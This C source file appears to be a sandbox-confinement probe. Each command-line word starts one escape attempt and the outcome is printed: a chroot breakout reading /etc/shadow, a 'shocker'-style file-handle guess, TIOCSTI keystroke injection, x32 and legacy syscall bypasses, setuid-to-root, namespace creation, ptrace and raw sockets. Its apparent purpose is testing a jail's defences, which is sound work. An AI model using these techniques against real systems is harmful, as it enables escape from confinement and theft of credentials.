/* Tries to get out of its jail. Each word is one attempt; its outcome is printed as
   "WORD: done" or "WORD: ERRNO". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *self;

static int tell(const char *what, long result)
{
    if (result < 0)
        printf("%s: %s\n", what, strerrorname_np(errno));
    else
        printf("%s: done\n", what);
    return result < 0;
}

/* The classic: a second chroot moves the root below the working directory, and .. leads out. */
static long breakout(const char *place)
{
    char directory[4096];
    snprintf(directory, sizeof directory, "%s/breakout", place);
    if (mkdir(directory, 0755) && errno != EEXIST)
        return -1;
    if (chroot(directory))
        return -1;
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return -1;
    if (chroot("."))
        return -1;
    return open("/etc/shadow", O_RDONLY);
}

/* The last steps alone, for a jail in which chroot fails. */
static long climb(void)
{
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return -1;
    return open("etc/shadow", O_RDONLY);
}

static long in_child(long flags)
{
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (!pid)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    return pid;
}

static long by_clone3(void)
{
    struct clone_args arguments = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
    long pid = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (!pid)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    return pid;
}

/* Types a letter into a terminal; the kernel reads only the low half of the number. */
static long inject(unsigned long number)
{
    int terminal = open("/dev/tty", O_RDWR);
    return syscall(SYS_ioctl, terminal < 0 ? 0 : terminal, number, "x");
}

/* The same with a terminal of its own to type into. */
static long inject_into_own(unsigned long number)
{
    int leader, follower;
    if (openpty(&leader, &follower, NULL, NULL, NULL))
        return -1;
    return syscall(SYS_ioctl, follower, number, "x");
}

static long run_written(const char *path)
{
    char bytes[65536];
    int from = open(self, O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    long count;
    if (from < 0 || to < 0)
        return -1;
    while ((count = read(from, bytes, sizeof bytes)) > 0)
        if (write(to, bytes, count) != count)
            return -1;
    close(to);
    char *arguments[] = { (char *)path, NULL }, *environment[] = { NULL };
    pid_t child = vfork();
    if (!child) {
        execve(path, arguments, environment);
        _exit(errno);
    }
    int status;
    waitpid(child, &status, 0);
    errno = WEXITSTATUS(status);
    return errno ? -1 : 0;
}

static long by_handle(const char *path)
{
    char space[sizeof(struct file_handle) + 128];
    struct file_handle *handle = (struct file_handle *)space;
    int mount;
    handle->handle_bytes = 128;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, handle, &mount, 0)) {
        /* The name is refused: a guess, as in the "shocker" exploit. */
        memset(space, 0, sizeof space);
        handle->handle_bytes = 8;
        handle->handle_type = 1;
        handle->f_handle[0] = 2;
    }
    int here = open(".", O_RDONLY | O_DIRECTORY);
    return syscall(SYS_open_by_handle_at, here, handle, O_RDONLY);
}

static long tcp(int port, int connecting)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(port) };
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int one = 1, end = socket(AF_INET, SOCK_STREAM, 0);
    if (end < 0)
        return -1;
    setsockopt(end, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (connecting)
        return connect(end, (struct sockaddr *)&address, sizeof address);
    return bind(end, (struct sockaddr *)&address, sizeof address);
}

static long x32(void)
{
    return syscall(0x40000000 | SYS_getpid);
}

static long legacy(void)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

int main(int count, char **words)
{
    self = words[0];
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count == 1)
        return 0;
    for (int i = 1; i < count; i++) {
        const char *word = words[i];
        const char *argument = strchr(word, '=');
        char name[64];
        snprintf(name, sizeof name, "%.*s", (int)strcspn(word, "="), word);
        argument = argument ? argument + 1 : "";
        long result;
        errno = 0;
        if (!strcmp(name, "breakout"))
            result = breakout(argument);
        else if (!strcmp(name, "climb"))
            result = climb();
        else if (!strcmp(name, "setuid"))
            result = syscall(SYS_setuid, 0);
        else if (!strcmp(name, "setresuid"))
            result = syscall(SYS_setresuid, -1, 0, -1);
        else if (!strcmp(name, "saved-uid"))
            result = syscall(SYS_setresuid, 0, 0, 0);
        else if (!strcmp(name, "setgid"))
            result = syscall(SYS_setgid, 0);
        else if (!strcmp(name, "setgroups")) {
            gid_t root = 0;
            result = syscall(SYS_setgroups, 1, &root);
        } else if (!strcmp(name, "mknod"))
            result = mknod(argument, S_IFBLK | 0600, makedev(254, 0));
        else if (!strcmp(name, "mount"))
            result = mount("tmpfs", argument, "tmpfs", 0, NULL);
        else if (!strcmp(name, "umount"))
            result = umount2(argument, MNT_DETACH);
        else if (!strcmp(name, "unshare"))
            result = unshare(CLONE_NEWUSER);
        else if (!strcmp(name, "clone"))
            result = in_child(CLONE_NEWUSER);
        else if (!strcmp(name, "clone3"))
            result = by_clone3();
        else if (!strcmp(name, "ptrace"))
            result = ptrace(PTRACE_ATTACH, atoi(argument), 0, 0);
        else if (!strcmp(name, "kill"))
            result = kill(-1, SIGTERM);
        else if (!strcmp(name, "open"))
            result = open(argument, O_RDONLY);
        else if (!strcmp(name, "write"))
            result = open(argument, O_WRONLY);
        else if (!strcmp(name, "truncate"))
            result = truncate(argument, 0);
        else if (!strcmp(name, "create"))
            result = open(argument, O_WRONLY | O_CREAT, 0600);
        else if (!strcmp(name, "unlink"))
            result = unlink(argument);
        else if (!strcmp(name, "rename")) {
            char other[4096];
            snprintf(other, sizeof other, "%s-away", argument);
            result = rename(argument, other);
        } else if (!strcmp(name, "chmod"))
            result = chmod(argument, 04755);
        else if (!strcmp(name, "own"))
            result = open(self, O_WRONLY);
        else if (!strcmp(name, "tiocsti"))
            result = inject(0x5412UL);
        else if (!strcmp(name, "tiocsti-high"))
            result = inject(0xdead000000005412UL);
        else if (!strcmp(name, "own-tiocsti"))
            result = inject_into_own(0xdead000000005412UL);
        else if (!strcmp(name, "packet"))
            result = socket(AF_PACKET, SOCK_RAW, 0);
        else if (!strcmp(name, "netlink"))
            result = socket(AF_NETLINK, SOCK_RAW, 0);
        else if (!strcmp(name, "netlink-high"))
            result = syscall(SYS_socket, 0x100000000UL | AF_NETLINK, SOCK_RAW, 0);
        else if (!strcmp(name, "execute"))
            result = run_written(argument);
        else if (!strcmp(name, "mmap"))
            result = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                          MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED ? -1 : 0;
        else if (!strcmp(name, "handle"))
            result = by_handle(argument);
        else if (!strcmp(name, "bind"))
            result = tcp(atoi(argument), 0);
        else if (!strcmp(name, "connect"))
            result = tcp(atoi(argument), 1);
        else if (!strcmp(name, "x32"))
            result = x32();
        else if (!strcmp(name, "legacy"))
            result = legacy();
        else
            return 64;
        tell(name, result);
    }
    return 0;
}
